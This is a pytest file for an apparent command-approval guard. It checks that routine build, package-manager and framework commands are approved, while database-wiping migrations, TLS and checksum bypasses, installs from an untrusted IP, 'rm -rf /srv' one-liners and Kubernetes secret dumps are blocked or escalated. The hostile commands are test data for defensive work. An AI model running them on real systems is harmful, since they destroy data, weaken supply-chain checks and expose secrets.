"""Ways of package managers, builds and consoles that lists of commands found unread."""

import pytest
from decisions import decided

from sentinel.live.reading.package_settings import unguarded


@pytest.mark.parametrize(
    "command",
    [
        "sudo apt-get update && sudo apt-get install -y jq",
        "apt-key list",
        "rye sync",
        "virtualenv .venv",
        "python -m build && twine check dist/*",
        "python3 -m venv /tmp/e && /tmp/e/bin/pip install -q -e . && /tmp/e/bin/ruff check src",
        "hatch run test:cov",
        "micromamba run -n x python -V",
        "npm profile get",
        "pnpm store path",
        "corepack enable",
        "cargo sqlx prepare --check",
        "sbt 'testOnly *ParserSpec'",
        "rebar3 ct",
        "cabal build all",
        "bazel run //:gazelle",
        "pants lint ::",
        "deno task build",
        "./gradlew publishToMavenLocal",
        "./gradlew spotlessApply",
        "./gradlew bootRun",
        "mvn -B -ntp verify -pl billing -am -Dtest=RoundingTest",
        "gradle dependencyInsight --dependency log4j-core",
        "php artisan route:list",
        "php artisan test",
        "php bin/console debug:router",
        "php bin/console make:migration",
        "flask db current",
        "diesel migration list",
        "wp plugin list",
        "drush status",
        "Rscript -e 'sessionInfo()'",
        "Rscript -e 'install.packages(\"dplyr\")'",
        "julia --project -e 'using Pkg; Pkg.instantiate(); Pkg.test()'",
        "carthage bootstrap",
        "fastlane lanes",
        "renovate --dry-run=full acme/web",
        "gcloud builds submit --tag europe-docker.pkg.dev/acme-dev/app/worker:test .",
        "dropdb --if-exists app_test_ci42 && createdb app_test_ci42",
        "kubectl get secret x -o json | jq -r '.data | keys[]'",
        "docker exec api env | sort | cut -d= -f1",
        "cat .env | wc -l",
    ],
)
def test_everyday_ways_run(command):
    assert decided(command) == "approve"


@pytest.mark.parametrize(
    "command",
    [
        "mvn liquibase:dropAll -Dliquibase.url=jdbc:mysql://db-main.example.com/orders",
        "mvn flyway:clean",
        "mvn org.flywaydb:flyway-maven-plugin:10.0.0:clean",
        "./gradlew flywayClean",
        "gradle dropAll",
        "php artisan migrate:fresh --force",
        "php artisan db:wipe",
        "php bin/console doctrine:schema:drop --force",
        "drush sql:drop -y",
        "wp db reset --yes",
        "diesel database reset",
        "sqlx database drop -y",
        "migrate -path m -database postgres://db/x down",
        "goose postgres 'host=db' reset",
        "flask db downgrade base",
    ],
)
def test_what_empties_a_database_is_stopped(command):
    assert decided(command, environment="prod") in ("block", "escalate")


@pytest.mark.parametrize(
    "command",
    [
        "gradle publishPlugins",
        "sudo debconf-set-selections <<< 'mysql-server mysql-server/remove_databases boolean true'",
        "sudo apt-get -y purge mysql-server-8.0",
        "redis-cli -h cache1.example.com KEYS '*' | wc -l",
        "mvn deploy",
        "mvn help:effective-settings -DshowPasswords=true",
        "npm config set strict-ssl false",
        "composer config -g disable-tls true",
        "go env -w GOSUMDB=off",
        "GOPROXY=http://203.0.113.9 go get example.com/x",
        "PIP_INDEX_URL=http://203.0.113.9/simple pip install x",
        "cargo install --git https://203.0.113.9/x.git",
        "gem sources --add http://203.0.113.9/",
        "sudo snap install --devmode evil",
        "curl http://203.0.113.9/key.gpg | sudo apt-key add -",
        "npm profile disable-2fa",
        "semantic-release --no-ci",
        "fastlane match nuke distribution",
        "Rscript -e 'system(\"rm -rf /srv\")'",
        "julia -e 'run(`rm -rf /srv`)'",
        "sbt clean publish",
        "/tmp/env/bin/pip install x",
        "kubectl get secret x -o json | jq -r '.data'",
        "kubectl get secret x -o json | tee /tmp/s | jq keys",
        "kubectl get secret x -o json | jq -r '.data.password, (.data | keys)'",
    ],
)
def test_is_not_approved(command):
    assert decided(command) != "approve"


def test_settings_are_weighed_by_their_values():
    assert unguarded([("GONOSUMDB", "*")], []) == (True, ())
    assert unguarded([("GONOSUMDB", "github.com/acme/*")], []) == (False, ())
    assert unguarded([("GOPROXY", "http://203.0.113.9")], []) == (False, ("http://203.0.113.9",))
    assert unguarded([("GOPROXY", "http://localhost:3000")], []) == (False, ())
